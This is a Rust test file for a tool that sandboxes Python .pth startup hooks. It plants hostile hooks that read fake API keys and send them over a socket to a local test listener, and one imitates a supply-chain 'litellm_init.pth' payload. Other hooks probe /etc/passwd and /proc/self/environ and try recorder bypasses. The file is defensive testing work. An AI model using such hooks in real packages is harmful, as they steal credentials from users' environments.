//! The WebAssembly sandbox, with the real guest and real wasmtime: hooks planted in throw-away
//! venvs are evaluated by `sitegate explain` and `sitegate scan`, and the tests check what the
//! trace recorded, what the hook could reach, and the verdict.
//!
//! Every hostile payload here is harmless: it reads only fake variables the test set, and it
//! only tries to reach a listener on 127.0.0.1 that the test itself started.

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::{mpsc, OnceLock};
use std::time::Duration;

use serde_json::Value;
use sitegate_tests::{pythons, run, OutputText, Python, Sandbox, Venv};

/// The interpreter these tests evaluate hooks for: the oldest present, which is furthest from
/// the guest's CPython 3.14.
fn python() -> Option<Python> {
    let found = pythons().into_iter().next();
    if found.is_none() {
        eprintln!("skipping sandbox tests: no CPython 3.8+ present");
    }
    found
}

/// Prepares the guest once per test run, in the shared cache, so that tests do not all compile
/// it at the same time.
pub(crate) fn prepared(sandbox: &Sandbox) {
    static PREPARED: OnceLock<()> = OnceLock::new();
    PREPARED.get_or_init(|| {
        let output = run(sandbox.sitegate().args(["sandbox", "prepare"]));
        assert!(output.status.success(), "{}", output.stderr_text());
    });
}

/// A venv with one hook file and a policy that sends it to the sandbox with these grants.
fn setup(python: &Python, file: &str, contents: &str, env: &[&str]) -> (Sandbox, Venv) {
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(python, "venv", false);
    venv.write(file, contents);
    let grants: Vec<String> = env.iter().map(|e| format!("\"{e}\"")).collect();
    std::fs::write(
        sandbox.path().join("policy.toml"),
        format!(
            "[[allow]]\nfile = \"{file}\"\nmode = \"sandbox\"\nenv = [{}]\n",
            grants.join(", ")
        ),
    )
    .unwrap();
    (sandbox, venv)
}

/// `sitegate explain --format json` on a hook file: the hooks of the document. With `secrets`,
/// fake `OPENAI_API_KEY` and `AWS_SECRET_ACCESS_KEY` are set in sitegate's environment.
fn explain(sandbox: &Sandbox, venv: &Venv, target: &str, secrets: bool) -> Vec<Value> {
    let fake: &[(&str, &str)] = &[
        ("OPENAI_API_KEY", "sk-fake-openai"),
        ("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"),
    ];
    explain_with(sandbox, venv, target, if secrets { fake } else { &[] })
}

/// `sitegate explain --format json` with these variables in sitegate's environment.
fn explain_with(
    sandbox: &Sandbox,
    venv: &Venv,
    target: &str,
    environment: &[(&str, &str)],
) -> Vec<Value> {
    let mut command = explain_command(sandbox, venv, target, "json");
    command.envs(environment.iter().copied());
    hooks_of(&run(&mut command))
}

/// The hooks of a `--format json` document of `sitegate explain` or `sitegate scan`.
pub(crate) fn hooks_of(output: &Output) -> Vec<Value> {
    let document: Value = serde_json::from_str(&output.stdout_text())
        .unwrap_or_else(|e| panic!("{e}: {}\n{}", output.stdout_text(), output.stderr_text()));
    document["hooks"].as_array().unwrap().clone()
}

fn explain_command(sandbox: &Sandbox, venv: &Venv, target: &str, format: &str) -> Command {
    explain_hook(
        sandbox,
        &venv.python,
        &venv.site_packages.join(target),
        format,
    )
}

/// `sitegate explain HOOK` for this interpreter, under the sandbox's `policy.toml`.
pub(crate) fn explain_hook(sandbox: &Sandbox, python: &Path, hook: &Path, format: &str) -> Command {
    let mut command = sandbox.sitegate();
    command
        .arg("--policy")
        .arg(sandbox.path().join("policy.toml"))
        .arg("explain")
        .arg(hook)
        .arg("--python")
        .arg(python)
        .args(["--format", format]);
    command
}

pub(crate) fn strings(value: &Value) -> Vec<String> {
    value
        .as_array()
        .map(|a| a.iter().map(|v| v.to_string()).collect())
        .unwrap_or_default()
}

pub(crate) fn lookups(hook: &Value) -> Vec<(String, bool)> {
    hook["sandbox"]["trace"]["environment_lookups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            (
                l["name"].as_str().unwrap().to_owned(),
                l["granted"].as_bool().unwrap(),
            )
        })
        .collect()
}

pub(crate) fn stdout_of(hook: &Value) -> String {
    hook["sandbox"]["trace"]["stdout"]
        .as_str()
        .unwrap()
        .to_owned()
}

const READ_SECRETS: &str = "import os; print('openai=' + os.environ.get('OPENAI_API_KEY', '-'), \
                            'aws=' + str(os.getenv('AWS_SECRET_ACCESS_KEY')))\n";

#[test]
fn environment_is_empty_unless_granted() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(&python, "probe.pth", READ_SECRETS, &[]);
    let hooks = explain(&sandbox, &venv, "probe.pth", true);
    let hook = &hooks[0];
    assert_eq!(stdout_of(hook).trim(), "openai=- aws=None");
    let seen = lookups(hook);
    assert!(seen.contains(&("OPENAI_API_KEY".into(), false)), "{seen:?}");
    assert!(
        seen.contains(&("AWS_SECRET_ACCESS_KEY".into(), false)),
        "{seen:?}"
    );
    assert_eq!(hook["verdict"], "denied");
    assert_eq!(hook["reason"], "capability-denied");

    let (sandbox, venv) = setup(&python, "probe.pth", READ_SECRETS, &["OPENAI_*"]);
    let hooks = explain(&sandbox, &venv, "probe.pth", true);
    assert_eq!(
        stdout_of(&hooks[0]).trim(),
        "openai=sk-fake-openai aws=None"
    );
    let seen = lookups(&hooks[0]);
    assert!(seen.contains(&("OPENAI_API_KEY".into(), true)), "{seen:?}");
    assert_eq!(hooks[0]["reason"], "capability-denied");
}

/// A listener on 127.0.0.1 that reports every connection it accepts.
fn listener() -> (u16, mpsc::Receiver<Vec<u8>>) {
    let socket = TcpListener::bind("127.0.0.1:0").unwrap();
    socket.set_nonblocking(true).unwrap();
    let port = socket.local_addr().unwrap().port();
    let (sender, received) = mpsc::channel();
    std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + Duration::from_secs(120);
        while std::time::Instant::now() < deadline {
            match socket.accept() {
                Ok((mut stream, _)) => {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                    let mut data = Vec::new();
                    let _ = stream.read_to_end(&mut data);
                    if sender.send(data).is_err() {
                        return;
                    }
                }
                Err(_) => std::thread::sleep(Duration::from_millis(10)),
            }
        }
    });
    (port, received)
}

#[test]
fn network_is_unreachable_and_attempts_are_recorded() {
    let Some(python) = python() else { return };
    let (port, received) = listener();

    // The listener works: a plain connection from the test reaches it.
    drop(std::net::TcpStream::connect(("127.0.0.1", port)).unwrap());
    assert!(received.recv_timeout(Duration::from_secs(5)).is_ok());

    let hook = format!(
        "import os, socket, urllib.request\n\
         import os, socket; exec(\"try:\\n s = socket.create_connection(('127.0.0.1', {port}), 3)\\n s.sendall(os.environ.get('OPENAI_API_KEY', '').encode())\\nexcept OSError as e:\\n print('connect', type(e).__name__)\")\n\
         import socket; exec(\"try:\\n socket.getaddrinfo('example.com', 443)\\nexcept OSError as e:\\n print('lookup', type(e).__name__)\")\n\
         import _socket; exec(\"try:\\n _socket.socket()\\nexcept OSError as e:\\n print('raw', type(e).__name__)\")\n"
    );
    let (sandbox, venv) = setup(&python, "net.pth", &hook, &[]);
    let hooks = explain(&sandbox, &venv, "net.pth", true);
    assert_eq!(hooks.len(), 4);
    assert!(stdout_of(&hooks[1]).starts_with("connect "), "{hooks:?}");
    let connections = strings(&hooks[1]["sandbox"]["trace"]["connections"]);
    assert!(
        connections
            .iter()
            .any(|c| c.contains(&format!("127.0.0.1:{port}"))),
        "{connections:?}"
    );
    assert_eq!(hooks[1]["reason"], "capability-denied");
    assert!(stdout_of(&hooks[2]).starts_with("lookup "), "{hooks:?}");
    let names = strings(&hooks[2]["sandbox"]["trace"]["name_lookups"]);
    assert!(names.iter().any(|n| n.contains("example.com")), "{names:?}");
    assert!(stdout_of(&hooks[3]).starts_with("raw "), "{hooks:?}");
    assert_eq!(hooks[3]["reason"], "capability-denied");

    std::thread::sleep(Duration::from_millis(300));
    assert!(
        received.try_iter().next().is_none(),
        "the listener received a connection from the sandbox"
    );
}

pub(crate) fn outcome_name(hook: &Value) -> String {
    hook["sandbox"]["outcome"]["kind"]
        .as_str()
        .unwrap()
        .to_owned()
}

#[test]
fn files_outside_the_site_directory_are_not_there() {
    let Some(python) = python() else { return };
    let probe = "def attempt(what, action, *arguments):\n    try:\n        action(*arguments)\n        print(what, 'ok')\n    except OSError as error:\n        print(what, type(error).__name__)\n";
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".to_owned());
    // `site` runs each line in a function frame, so the names it binds are locals that a
    // lambda on the same line cannot see: the probe takes its arguments instead.
    let lines = format!(
        "import helper_probe; helper_probe.attempt('passwd', open, '/etc/passwd')\n\
         import os, helper_probe; helper_probe.attempt('home', os.listdir, {home:?})\n\
         import helper_probe, sitecustomize_free_module; print('module', sitecustomize_free_module.VALUE)\n\
         import helper_probe; helper_probe.attempt('write', open, sitedir + '/written.txt', 'w')\n\
         import helper_probe; helper_probe.attempt('proc', open, '/proc/self/environ', 'rb')\n"
    );
    let (sandbox, venv) = setup(&python, "files.pth", &lines, &[]);
    venv.write("helper_probe.py", probe);
    venv.write("sitecustomize_free_module.py", "VALUE = 42\n");
    let hooks = explain(&sandbox, &venv, "files.pth", true);
    let outputs: Vec<String> = hooks
        .iter()
        .map(|h| stdout_of(h).trim().to_owned())
        .collect();
    assert!(
        outputs[0].starts_with("passwd ") && !outputs[0].ends_with(" ok"),
        "{outputs:?}"
    );
    assert!(
        outputs[1].starts_with("home ") && !outputs[1].ends_with(" ok"),
        "{outputs:?}"
    );
    assert_eq!(outputs[2], "module 42");
    assert!(
        outputs[3].starts_with("write ") && !outputs[3].ends_with(" ok"),
        "{outputs:?}"
    );
    assert!(
        outputs[4].starts_with("proc ") && !outputs[4].ends_with(" ok"),
        "{outputs:?}"
    );
    assert!(!venv.site_packages.join("written.txt").exists());
    for index in [0, 3, 4] {
        assert_eq!(
            hooks[index]["reason"], "capability-denied",
            "{}",
            hooks[index]
        );
    }
}

#[test]
fn processes_and_native_code_fail_and_are_reported() {
    let Some(python) = python() else { return };
    let lines = "import os; exec(\"try:\\n os.system('true')\\nexcept Exception as e:\\n print(type(e).__name__)\")\n\
                 import subprocess; exec(\"try:\\n subprocess.run(['true'])\\nexcept Exception as e:\\n print(type(e).__name__)\")\n\
                 import os; exec(\"try:\\n os.fork()\\nexcept Exception as e:\\n print(type(e).__name__)\")\n\
                 import ctypes; ctypes.CDLL(None)\n";
    let (sandbox, venv) = setup(&python, "proc.pth", lines, &[]);
    let hooks = explain(&sandbox, &venv, "proc.pth", false);
    for hook in &hooks[..3] {
        assert!(
            !strings(&hook["sandbox"]["trace"]["processes"]).is_empty(),
            "{hook}"
        );
        assert_eq!(hook["reason"], "capability-denied", "{hook}");
    }
    assert_eq!(outcome_name(&hooks[3]), "needs-native");
    assert_eq!(hooks[3]["sandbox"]["outcome"]["module"], "ctypes");
    assert_eq!(hooks[3]["reason"], "needs-native");
}

#[test]
fn a_module_the_guest_lacks_is_its_own_outcome() {
    let Some(python) = python() else { return };
    let lines = "import tomllib\nimport sys; exec('try:\\n import tomllib\\nexcept ImportError:\\n pass')\n";
    let (sandbox, venv) = setup(&python, "missing.pth", lines, &[]);
    let hooks = explain(&sandbox, &venv, "missing.pth", false);
    for hook in &hooks {
        assert_eq!(outcome_name(hook), "missing-module", "{hook}");
        assert_eq!(hook["sandbox"]["outcome"]["module"], "tomllib", "{hook}");
        assert_eq!(hook["reason"], "missing-module");
    }
}

#[test]
fn limits_end_each_hook_with_its_own_outcome() {
    let Some(python) = python() else { return };
    let lines = "import sys; exec('while True: pass')\n\
                 import sys; block = bytearray(1 << 30)\n\
                 import sys; exec('while True: print(\"x\" * 1000000)')\n\
                 import sys; down = lambda again: again(again); down(down)\n\
                 import sys; sys.path.append(sitedir + '/after-limits')\n";
    let (sandbox, venv) = setup(&python, "limits.pth", lines, &[]);
    let hooks = explain(&sandbox, &venv, "limits.pth", false);
    let reasons: Vec<&str> = hooks
        .iter()
        .map(|h| h["reason"].as_str().unwrap())
        .collect();
    assert_eq!(
        reasons,
        [
            "sandbox-timeout",
            "sandbox-memory-limit",
            "sandbox-output-limit",
            "hook-raised",
            "sandbox-effects"
        ],
        "{hooks:?}"
    );
    assert_eq!(
        hooks[3]["sandbox"]["outcome"]["type_name"],
        "RecursionError"
    );
    assert_eq!(hooks[4]["verdict"], "effects");
}

#[test]
fn bypass_attempts_get_no_secret() {
    let Some(python) = python() else { return };
    // The first line switches the recorder off before reading: the trace then shows nothing,
    // and still the hook gets no secret, because the host granted none.
    let lines = "import sys; recorder = sys.modules['guest']; recorder.RECORDER = None; import os; print(repr(os.environ.get('OPENAI_API_KEY')), repr(os.getenv('AWS_SECRET_ACCESS_KEY')))\n\
                 import posix; print(repr(dict(posix.environ)))\n\
                 import os; print(repr(os.environ.__class__.__mro__[-2](os.environ)))\n\
                 import sys; sys.addaudithook(lambda *a: None); import os, io; print(repr(io.open('/proc/self/environ', 'rb').read()))\n";
    let (sandbox, venv) = setup(&python, "bypass.pth", lines, &[]);
    let hooks = explain(&sandbox, &venv, "bypass.pth", true);
    assert_eq!(hooks.len(), 4);
    for hook in &hooks {
        let out = stdout_of(hook);
        assert!(
            !out.contains("sk-fake-openai") && !out.contains("fake-aws-secret"),
            "{out}"
        );
        // Whatever the recorder saw, the hook's own code never gets to run natively.
        assert_ne!(hook["verdict"], "allowed", "{hook}");
    }
    assert_eq!(stdout_of(&hooks[0]).trim(), "None None");
    assert_eq!(stdout_of(&hooks[1]).trim(), "{}");
}

#[test]
fn explain_reads_well_for_a_path_hook() {
    let Some(python) = python() else { return };
    let line = "import sys; sys.path.append('/nonexistent/sitegate-effects')\n";
    let (sandbox, venv) = setup(&python, "effects.pth", line, &[]);
    let output = run(&mut explain_command(
        &sandbox,
        &venv,
        "effects.pth:1",
        "table",
    ));
    let text = output.stdout_text();
    assert!(output.status.success(), "{text}\n{}", output.stderr_text());
    assert!(text.contains("outcome: completed"), "{text}");
    assert!(
        text.contains("`sys.path` gains `/nonexistent/sitegate-effects` at "),
        "{text}"
    );
    assert!(
        text.contains("verdict: effects [sandbox-effects]"),
        "{text}"
    );
}

#[test]
fn unknown_code_goes_to_the_sandbox_when_the_policy_says_so() {
    let Some(python) = python() else { return };
    let (sandbox, venv) = setup(&python, "unrelated.pth", "\n", &[]);
    venv.write("unknown.pth", READ_SECRETS);
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "unknown-code = \"sandbox\"\n",
    )
    .unwrap();
    let output = run(sandbox
        .sitegate()
        .arg("--policy")
        .arg(sandbox.path().join("policy.toml"))
        .args(["scan", "--format", "json", "--python"])
        .arg(&venv.python)
        .env("OPENAI_API_KEY", "sk-fake-openai"));
    let document: Value = serde_json::from_str(&output.stdout_text()).unwrap();
    let hook = document["hooks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["path"].as_str().unwrap().ends_with("unknown.pth"))
        .unwrap()
        .clone();
    assert_eq!(hook["reason"], "capability-denied");
    assert_eq!(hook["sandbox"]["mode"], "sandbox");
    assert!(!stdout_of(&hook).contains("sk-fake-openai"));

    // Unchanged, the second scan takes the evaluation from the cache; a changed byte does not.
    let again = run(sandbox
        .sitegate()
        .arg("--policy")
        .arg(sandbox.path().join("policy.toml"))
        .args(["scan", "--format", "json", "--python"])
        .arg(&venv.python));
    let document: Value = serde_json::from_str(&again.stdout_text()).unwrap();
    let cached = |document: &Value| {
        document["hooks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["path"].as_str().unwrap().ends_with("unknown.pth"))
            .unwrap()["sandbox"]["cached"]
            .clone()
    };
    assert_eq!(cached(&document), true);
    venv.write("unknown.pth", READ_SECRETS.replace("aws=", "aws:"));
    let changed = run(sandbox
        .sitegate()
        .arg("--policy")
        .arg(sandbox.path().join("policy.toml"))
        .args(["scan", "--format", "json", "--python"])
        .arg(&venv.python));
    let document: Value = serde_json::from_str(&changed.stdout_text()).unwrap();
    assert_eq!(cached(&document), false);
}

/// The venv's program printing `sys.path` as JSON, run directly and under `sitegate exec` with
/// the sandbox's `policy.toml`: (unguarded, guarded).
fn sys_paths(sandbox: &Sandbox, venv: &Venv) -> (std::process::Output, std::process::Output) {
    let program = ["-c", "import json, sys; print(json.dumps(sys.path))"];
    let unguarded = run(sandbox.command(&venv.python).args(program));
    let guarded = run(sandbox
        .guarded(Some(&sandbox.path().join("policy.toml")), &venv.python)
        .args(program));
    (unguarded, guarded)
}

#[test]
fn path_effects_are_applied_without_running_the_hook() {
    let Some(python) = python() else { return };
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(&python, "venv", false);
    let front = sandbox.path().join("front");
    std::fs::create_dir(&front).unwrap();
    // Printing is the side effect the sandbox keeps to itself: natively, the marker shows up
    // in the program's output.
    venv.write(
        "effects.pth",
        format!(
            "import sys; sys.path.append({:?}); print('RAN-NATIVELY')\n\
             import sys; sys.path.append(sitedir + '/tail')\n",
            front.display().to_string()
        ),
    );
    // A path line processed before the hooks: the guest sees its entry too.
    let listed = sandbox.path().join("listed");
    std::fs::create_dir(&listed).unwrap();
    venv.write("aaa.pth", format!("{}\n", listed.display()));
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "[[allow]]\nfile = \"*.pth\"\nmode = \"sandbox\"\n",
    )
    .unwrap();
    let (unguarded, guarded) = sys_paths(&sandbox, &venv);
    assert!(
        unguarded.stdout_text().contains("RAN-NATIVELY"),
        "the hook did not run unguarded; the test would prove nothing"
    );
    assert!(
        !guarded.stdout_text().contains("RAN-NATIVELY"),
        "the hook ran natively: {}",
        guarded.stdout_text()
    );
    let path_of = |text: &str| -> Value {
        serde_json::from_str(text.lines().last().unwrap_or_default()).unwrap()
    };
    let unguarded_path = path_of(&unguarded.stdout_text());
    assert!(unguarded_path.to_string().contains("front"));
    assert!(unguarded_path.to_string().contains("listed"));
    assert_eq!(
        path_of(&guarded.stdout_text()),
        unguarded_path,
        "{}",
        guarded.stderr_text()
    );
}

#[test]
fn appends_are_replayed_run_by_run_and_other_changes_need_native() {
    for python in pythons() {
        let sandbox = Sandbox::new();
        prepared(&sandbox);
        let venv = sandbox.venv(&python, "venv", false);
        let first = sandbox.path().join("first").display().to_string();
        // `site` reads a venv's site-packages twice: each hook runs twice, the second time on
        // the `sys.path` the first runs left. The second hook's entry depends on the first's.
        venv.write(
            "a.pth",
            format!("import sys; sys.path.append({first:?}); print('RAN-NATIVELY')\n"),
        );
        venv.write(
            "b.pth",
            "import sys; sys.path.append(sys.path[-1] + '-after')\n",
        );
        std::fs::write(
            sandbox.path().join("policy.toml"),
            "[[allow]]\nfile = \"*.pth\"\nmode = \"sandbox\"\n",
        )
        .unwrap();
        let (unguarded, guarded) = sys_paths(&sandbox, &venv);
        let version = &python.label;
        assert!(
            unguarded.stdout_text().contains("RAN-NATIVELY"),
            "{version}"
        );
        assert!(
            !guarded.stdout_text().contains("RAN-NATIVELY"),
            "{version}: the hook ran natively"
        );
        assert!(
            !guarded.stderr_text().contains("sitegate:"),
            "{version}: {}",
            guarded.stderr_text()
        );
        let explained = run(&mut explain_command(&sandbox, &venv, "b.pth:1", "table"));
        let text = explained.stdout_text();
        assert!(text.contains("runs: 2 (`site` reads"), "{version}: {text}");
        let last = |text: String| text.lines().last().unwrap_or_default().to_owned();
        let unguarded_path = last(unguarded.stdout_text());
        assert!(unguarded_path.contains("first-after"), "{version}");
        assert_eq!(
            last(guarded.stdout_text()),
            unguarded_path,
            "{version}: {}",
            guarded.stderr_text()
        );

        // Inserting before entries already there, or moving one, decides where modules come
        // from: not applied without running the hook.
        venv.write(
            "c.pth",
            format!("import sys; sys.path.insert(sys.path.index(sitedir), {first:?})\n"),
        );
        venv.write(
            "d.pth",
            "import sys; sys.path.append(sys.path.pop(sys.path.index(sitedir)))\n",
        );
        for file in ["c.pth", "d.pth"] {
            let hooks = explain(&sandbox, &venv, file, false);
            assert_eq!(
                hooks[0]["reason"], "capability-denied",
                "{version}: {}",
                hooks[0]
            );
            let message = hooks[0]["message"].as_str().unwrap();
            assert!(message.contains("only appends are applied"), "{message}");
        }
    }
}

#[test]
fn after_a_native_hook_changed_sys_path_appends_are_replayed_as_recorded() {
    let Some(python) = python() else { return };
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(&python, "venv", false);
    let entry = |name: &str| sandbox.path().join(name).display().to_string();
    let (native, tail) = (entry("native"), entry("tail"));
    // The native hook appends an entry the sandbox never sees, so the later hook runs on a
    // `sys.path` no evaluation started from: its recorded appends are applied as they are.
    venv.write(
        "n.pth",
        format!("import sys; sys.path.append({native:?}) if {native:?} not in sys.path else 0\n"),
    );
    venv.write("p.pth", format!("import sys; sys.path.append({tail:?})\n"));
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "[[allow]]\nfile = \"n.pth\"\nmode = \"native\"\n\n\
         [[allow]]\nfile = \"p.pth\"\nmode = \"sandbox\"\n",
    )
    .unwrap();
    let (unguarded, guarded) = sys_paths(&sandbox, &venv);
    let stderr = guarded.stderr_text();
    let path_of = |text: String| -> Vec<String> {
        serde_json::from_str(text.lines().last().unwrap_or_default()).unwrap()
    };
    let path = path_of(guarded.stdout_text());
    assert_eq!(
        path.iter().filter(|e| **e == tail).count(),
        2,
        "{path:?}\n{stderr}"
    );
    assert!(path.contains(&native), "{path:?}");
    assert_eq!(path, path_of(unguarded.stdout_text()), "{stderr}");
}

fn attack_payload(port: u16) -> String {
    format!(
        "import os, socket; data = (os.environ.get('OPENAI_API_KEY', '') + ':' + \
         os.environ.get('AWS_SECRET_ACCESS_KEY', '')).encode(); \
         s = socket.create_connection(('127.0.0.1', {port}), 3); s.sendall(data); s.close()\n"
    )
}

#[test]
fn the_simulated_attack_is_evaluated_and_denied_while_the_program_runs() {
    let Some(python) = python() else { return };
    let (port, received) = listener();
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(&python, "venv", false);
    venv.write("litellm_init.pth", attack_payload(port));
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "unknown-code = \"sandbox\"\n",
    )
    .unwrap();
    let policy = sandbox.path().join("policy.toml");

    let guarded = run(sandbox
        .guarded(Some(&policy), &venv.python)
        .args(["-c", "import sys; print('program output'); sys.exit(7)"])
        .env("OPENAI_API_KEY", "sk-fake-openai")
        .env("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"));
    assert_eq!(guarded.stdout_text(), "program output\n");
    assert_eq!(guarded.status.code(), Some(7), "{}", guarded.stderr_text());
    assert!(
        guarded.stderr_text().contains("capability-denied"),
        "{}",
        guarded.stderr_text()
    );

    let scan = run(sandbox
        .sitegate()
        .arg("--policy")
        .arg(&policy)
        .args(["scan", "--format", "json", "--python"])
        .arg(&venv.python)
        .env("OPENAI_API_KEY", "sk-fake-openai")
        .env("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"));
    let document: Value = serde_json::from_str(&scan.stdout_text()).unwrap();
    let hook = &document["hooks"][0];
    assert_eq!(hook["reason"], "capability-denied");
    let names: Vec<String> = lookups(hook).into_iter().map(|(name, _)| name).collect();
    assert!(names.contains(&"OPENAI_API_KEY".to_owned()), "{names:?}");
    assert!(
        names.contains(&"AWS_SECRET_ACCESS_KEY".to_owned()),
        "{names:?}"
    );
    let connections = strings(&hook["sandbox"]["trace"]["connections"]);
    assert!(
        connections
            .iter()
            .any(|c| c.contains(&format!("127.0.0.1:{port}"))),
        "{connections:?}"
    );

    std::thread::sleep(Duration::from_millis(300));
    assert!(
        received.try_iter().next().is_none(),
        "the listener received data"
    );
}

#[test]
fn well_known_hooks_are_traced_as_they_behave() {
    let Some(python) = pythons().into_iter().find(|p| p.version <= (3, 11)) else {
        eprintln!("skipping: no CPython whose ensurepip ships setuptools");
        return;
    };
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(&python, "venv", true);
    if !venv.site_packages.join("distutils-precedence.pth").exists() {
        eprintln!(
            "skipping: {}'s setuptools has no distutils-precedence.pth",
            python.label
        );
        return;
    }
    // An editable finder in the shape setuptools writes, with a finder of our own.
    venv.write(
        "__editable__.demo-0.1.pth",
        "import __editable___demo_0_1_finder; __editable___demo_0_1_finder.install()\n",
    );
    venv.write(
        "__editable___demo_0_1_finder.py",
        "import sys\n\nclass DemoFinder:\n    @classmethod\n    def find_spec(cls, name, path=None, target=None):\n        return None\n\ndef install():\n    sys.meta_path.append(DemoFinder)\n",
    );
    // A legacy namespace-package line, as setuptools wrote them.
    venv.write(
        "demo-nspkg.pth",
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo_ns',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo_ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo_ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo_ns', types.ModuleType('demo_ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    );
    std::fs::create_dir(venv.site_packages.join("demo_ns")).unwrap();
    std::fs::write(
        sandbox.path().join("policy.toml"),
        "[[allow]]\nfile = \"distutils-precedence.pth\"\nmode = \"sandbox\"\n\
         env = [\"SETUPTOOLS_USE_DISTUTILS\"]\n\
         [[allow]]\nfile = \"*.pth\"\nmode = \"sandbox\"\n",
    )
    .unwrap();

    // With `SETUPTOOLS_USE_DISTUTILS=local` granted, the shim installs its finder, as it does
    // natively.
    let distutils = explain_with(
        &sandbox,
        &venv,
        "distutils-precedence.pth",
        &[("SETUPTOOLS_USE_DISTUTILS", "local")],
    );
    let seen: Vec<String> = lookups(&distutils[0]).into_iter().map(|(n, _)| n).collect();
    assert!(
        seen.contains(&"SETUPTOOLS_USE_DISTUTILS".to_owned()),
        "{seen:?}"
    );
    let finders = strings(&distutils[0]["sandbox"]["effects"]["meta_path_added"]);
    assert!(
        finders.iter().any(|f| f.contains("DistutilsMetaFinder")),
        "{finders:?}"
    );
    assert_eq!(distutils[0]["reason"], "untransplantable-hook");

    let editable = explain(&sandbox, &venv, "__editable__.demo-0.1.pth", false);
    assert_eq!(outcome_name(&editable[0]), "completed");
    let finders = strings(&editable[0]["sandbox"]["effects"]["meta_path_added"]);
    assert!(
        finders.iter().any(|f| f.contains("DemoFinder")),
        "{finders:?}"
    );
    assert_eq!(editable[0]["reason"], "untransplantable-hook");

    let nspkg = explain(&sandbox, &venv, "demo-nspkg.pth", false);
    assert_eq!(outcome_name(&nspkg[0]), "completed", "{}", nspkg[0]);
    let loaded = strings(&nspkg[0]["sandbox"]["effects"]["modules_loaded"]);
    assert!(loaded.iter().any(|m| m.contains("demo_ns")), "{loaded:?}");

    let readable = run(
        explain_command(&sandbox, &venv, "distutils-precedence.pth:1", "table")
            .env("SETUPTOOLS_USE_DISTUTILS", "local"),
    );
    let text = readable.stdout_text();
    assert!(
        text.contains("`sys.meta_path` gains `_distutils_hack.DistutilsMetaFinder`"),
        "{text}"
    );
    assert!(text.contains("mode = \"native\""), "{text}");
}

#[test]
fn a_real_setuptools_editable_install_is_traced_as_it_behaves() {
    // setuptools 80 writes a finder module for the interpreter that builds it; the targets
    // here are those it supports.
    let Some(python) = pythons().into_iter().find(|p| p.version >= (3, 9)) else {
        eprintln!("skipping: no CPython 3.9+ present");
        return;
    };
    let sandbox = Sandbox::new();
    prepared(&sandbox);
    let venv = sandbox.venv(&python, "venv", true);
    sandbox.editable_install(&venv);
    let hook = "__editable__.demo_pkg-0.1.pth";
    let finder = "__editable___demo_pkg_0_1_finder";
    assert!(venv.site_packages.join(hook).is_file());
    let program = [
        "-c",
        "import demo_pkg, sys; print(demo_pkg.X, sys.meta_path[-1])",
    ];

    // By name, the baseline knows setuptools' editable finder, whose module the RECORD pins;
    // the install works under sitegate as without it.
    let guarded = run(sandbox.guarded(None, &venv.python).args(program));
    assert!(
        guarded.stdout_text().starts_with("1 "),
        "{}\n{}",
        guarded.stdout_text(),
        guarded.stderr_text()
    );
    assert!(
        guarded.stdout_text().contains(finder),
        "{}",
        guarded.stdout_text()
    );

    // In the sandbox the hook imports its finder module, reads it from the site directory
    // only, and puts its finder on `sys.meta_path`, which needs a native grant.
    std::fs::write(
        sandbox.path().join("policy.toml"),
        format!("[[allow]]\nfile = \"{hook}\"\nmode = \"sandbox\"\n"),
    )
    .unwrap();
    let hooks = explain(&sandbox, &venv, hook, true);
    let evaluated = &hooks[0];
    assert_eq!(outcome_name(evaluated), "completed", "{evaluated}");
    assert!(lookups(evaluated).is_empty(), "{evaluated}");
    let imports = strings(&evaluated["sandbox"]["trace"]["imports"]);
    assert!(imports.iter().any(|i| i.contains(finder)), "{imports:?}");
    let finders = strings(&evaluated["sandbox"]["effects"]["meta_path_added"]);
    assert!(
        finders
            .iter()
            .any(|f| f.contains(finder) && f.contains("\"_EditableFinder\"")),
        "{finders:?}"
    );
    assert_eq!(evaluated["reason"], "untransplantable-hook");
    let trace = &evaluated["sandbox"]["trace"];
    for empty in ["connections", "name_lookups", "processes", "native_loads"] {
        assert_eq!(trace[empty], Value::Array(Vec::new()), "{empty}: {trace}");
    }
    let readable = run(&mut explain_command(&sandbox, &venv, hook, "table"));
    let text = readable.stdout_text();
    assert!(
        text.contains(&format!("`sys.meta_path` gains `{finder}._EditableFinder`")),
        "{text}"
    );
    assert!(text.contains("mode = \"native\""), "{text}");
}

#[test]
fn a_hook_sees_the_target_version() {
    let found = pythons();
    let (Some(old), Some(new)) = (
        found.iter().find(|p| p.version < (3, 10)),
        found.iter().find(|p| p.version >= (3, 10)),
    ) else {
        eprintln!("skipping: needs one CPython before 3.10 and one from 3.10");
        return;
    };
    let line =
        "import sys; sys.version_info < (3, 10) and sys.path.insert(0, '/old-python-only')\n";
    let added = |python: &Python| {
        let (sandbox, venv) = setup(python, "versioned.pth", line, &[]);
        let hooks = explain(&sandbox, &venv, "versioned.pth", false);
        hooks[0]["sandbox"]["effects"]["path_added"].clone()
    };
